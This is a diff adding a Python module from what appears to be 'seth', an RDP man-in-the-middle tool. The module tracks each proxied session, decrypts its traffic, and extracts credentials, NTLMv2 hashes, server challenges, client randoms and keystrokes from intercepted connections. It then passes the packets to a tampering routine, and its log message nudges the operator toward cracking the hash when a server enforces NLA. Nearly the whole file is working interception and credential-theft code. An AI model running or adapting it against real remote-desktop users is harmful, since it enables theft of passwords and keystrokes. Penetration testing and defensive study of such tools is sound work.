@@ -0,0 +1,228 @@
+"""
+The state of a session and the parsing of the data of both sides, without
+any sockets. The proxy, replay.py and ingest.py all feed their data through
+here.
+"""
+
+import time
+
+import seth.crypto
+import seth.tamper
+from seth import metrics, output
+from seth.crypto import skip_fast_path_output, sym_encryption_enabled
+from seth.extractors import (extract_client_random, extract_credentials,
+                             extract_key_press, extract_keyboard_layout,
+                             extract_ntlmv2, extract_server_cert,
+                             extract_server_challenge)
+from seth.framing import (PDUFramer, PHASE_ACTIVE, PHASE_CHECKS,
+                          PHASE_CLIENT_INFO, PHASE_CREDSSP, PHASE_MCS_CONNECT,
+                          PHASE_NEGOTIATION, PHASE_SECURITY_EXCHANGE,
+                          is_fast_path, is_fast_path_output, scan_pdu)
+from seth.recording import RECORD_DATA, dump_data, write_capture
+
+
+class Session(object):
+    """State of one proxied connection, so that several clients can be served
+    at the same time"""
+    __slots__ = ["crypto", "rc4_client", "rc4_server", "nt_response",
+                 "server_challenge", "rdp_protocol", "rdp_protocol_old",
+                 "keyboard_info", "framers", "phase", "legs", "backlog",
+                 "closed", "nla_enforced", "peer", "started", "capture",
+                 "recorder"]
+
+    def __init__(self):
+        self.crypto = {}
+        self.rc4_client = None
+        self.rc4_server = None
+        self.nt_response = None
+        self.server_challenge = None
+        self.rdp_protocol = 0
+        self.rdp_protocol_old = 0
+        self.keyboard_info = None
+        self.framers = {"Client": PDUFramer(), "Server": PDUFramer()}
+        self.phase = PHASE_NEGOTIATION
+        # Leg objects by the side they talk to
+        self.legs = {}
+        # Data received while the TLS handshakes are running
+        self.backlog = None
+        self.closed = False
+        # Set once the server demands NLA, there is nothing to get then
+        self.nla_enforced = False
+        # Address of the client, for the output files
+        self.peer = None
+        self.started = None
+        self.capture = None
+        self.recorder = None
+
+
+def check_nla_failure(session, bytes, hits=None):
+    """Look for the Negotiation Failure of a server that enforces NLA in
+    its X.224 Connection Confirm, returns True if it is there"""
+    if hits is None:
+        hits = scan_pdu(bytes, From="Server", checks={"nla_failure"})
+    if "nla_failure" in hits:
+        output.log("Server enforces NLA. Try your luck with the hash.")
+        write_capture(session, "NLA")
+        session.nla_enforced = True
+    return session.nla_enforced
+
+
+def parse_rdp(session, bytes, From="Client"):
+    """Feed data read from one side into its framer and parse all PDUs that
+    are complete now. Returns a list of (PDU, markers found) tuples."""
+    result = []
+    pdus = session.framers[From].feed(bytes)
+    stats = metrics.stats
+    if stats is not None:
+        stats.count("pdus %s" % From.lower(), len(pdus))
+    for pdu in pdus:
+        if From == "Server" and is_fast_path_output(pdu):
+            # None of the markers can be in there, so forward it untouched
+            if stats is None:
+                skip_fast_path_output(session, pdu)
+            else:
+                start = time.perf_counter()
+                skip_fast_path_output(session, pdu)
+                stats.count("fast-path output pdus")
+                stats.observe("skip_fast_path_output server",
+                              time.perf_counter() - start)
+            result.append((pdu, {}))
+        else:
+            result.append((pdu, parse_rdp_packet(session, pdu, From=From)))
+        if session.nla_enforced:
+            break
+    return result
+
+
+def next_phase(session, bytes, From, hits):
+    """Move on to the next phase once the PDU that ends the current one has
+    been parsed"""
+    phase = session.phase
+    if phase == PHASE_MCS_CONNECT:
+        # Ch. 2.2.1.4, MCS Connect Response
+        if From == "Server" and bytes[7:9] == b"\x7f\x66":
+            if "server_cert" in hits:
+                session.phase = PHASE_SECURITY_EXCHANGE
+            else:
+                session.phase = PHASE_CLIENT_INFO
+    elif phase == PHASE_SECURITY_EXCHANGE:
+        if "client_random" in hits and session.crypto.get("client_rand"):
+            session.phase = PHASE_CLIENT_INFO
+    elif phase == PHASE_CLIENT_INFO:
+        # The Confirm Active PDU comes last
+        if "keyboard" in hits:
+            session.phase = PHASE_ACTIVE
+            if metrics.stats is not None and session.started is not None:
+                metrics.stats.observe("connection setup",
+                              time.perf_counter() - session.started)
+
+
+def parse_rdp_packet(session, bytes, From="Client"):
+    """Print whatever can be extracted from a PDU and return the markers
+    scan_pdu found, so tamper_data doesn't have to scan it again"""
+
+    if len(bytes) < 4: return {}
+
+    if sym_encryption_enabled(session):
+        bytes = seth.crypto.decrypt(session, bytes, From=From)
+
+    if session.phase == PHASE_CREDSSP and bytes[0] == 0x03:
+        # CredSSP is over once the first TPKT shows up
+        session.phase = PHASE_MCS_CONNECT
+
+    result = b""
+    # What result is, for the output files
+    kind = None
+    hits = scan_pdu(bytes, From=From, checks=PHASE_CHECKS[session.phase])
+    if hits and isinstance(bytes, memoryview):
+        bytes = bytes.tobytes()
+
+    if "client_info" in hits:
+        try:
+            result = extract_credentials(bytes)
+            kind = "credentials"
+        except:
+            result = b""
+        #  close();exit(0)
+
+    if "ntlm_challenge" in hits:
+        result = extract_server_challenge(session, bytes,
+                                          hits["ntlm_challenge"])
+        kind = "server_challenge"
+
+    if "ntlm_auth" in hits:
+        result = extract_ntlmv2(session, bytes, hits["ntlm_auth"])
+        kind = "ntlmv2"
+
+    crypto = session.crypto
+    if ("client_random" in hits and "client_rand" in crypto
+            and crypto["client_rand"] == b""):
+        result = extract_client_random(session, bytes, hits["client_random"])
+        kind = "client_random"
+
+    if "server_cert" in hits:
+        result = extract_server_cert(session, bytes, hits["server_cert"])
+        kind = "server_cert"
+
+    if "keyboard" in hits:
+        # A parsing error here shouldn't be a show stopper, so catch exceptions
+        try:
+            result = extract_keyboard_layout(session, bytes, hits["keyboard"])
+            kind = "keyboard_layout"
+        except:
+            output.log("Failed to extract keyboard layout information")
+
+    if From == "Client" and result == b"" and is_fast_path(bytes):
+        result = extract_key_press(session, bytes)
+        kind = "keys"
+
+    if check_nla_failure(session, bytes, hits):
+        return hits
+
+    if not result == b"" and not result == None:
+        output.result(session, kind, result.decode())
+
+    next_phase(session, bytes, From, hits)
+    return hits
+
+
+def forward_data(session, data, From):
+    """Parse and tamper with data from one side, returns the list of chunks
+    to send on to the other side. Chunks that weren't modified are still
+    views of the receive buffer."""
+    dump_data(session, data, From=From)
+    # Without markers tamper_data would return the PDU as it is
+    return [
+        seth.tamper.tamper_data(session, pdu, From=From, hits=hits)
+        if hits else pdu
+        for pdu, hits in parse_rdp(session, data, From=From)
+    ]
+
+
+def replay(session, records, client_random=None):
+    """Run recorded data through the parsers like receive_data does, but
+    without sockets and without tampering with anything. Returns the number
+    of bytes parsed."""
+    if client_random is not None:
+        session.crypto["known_client_rand"] = client_random
+    parsed = 0
+    for record in records:
+        if not record.type == RECORD_DATA or record.modified:
+            continue
+        data = record.data
+        if session.phase == PHASE_NEGOTIATION:
+            if record.From == "Server":
+                check_nla_failure(session, data)
+                # The protocol in the RDP Negotiation Response, Ch. 2.2.1.2.1
+                if len(data) >= 19 and data[11] == 0x02:
+                    session.rdp_protocol = data[15]
+                if session.rdp_protocol & 2:
+                    session.phase = PHASE_CREDSSP
+                else:
+                    session.phase = PHASE_MCS_CONNECT
+        else:
+            parse_rdp(session, data, From=record.From)
+        parsed += len(data)
+        if session.nla_enforced:
+            break
+    return parsed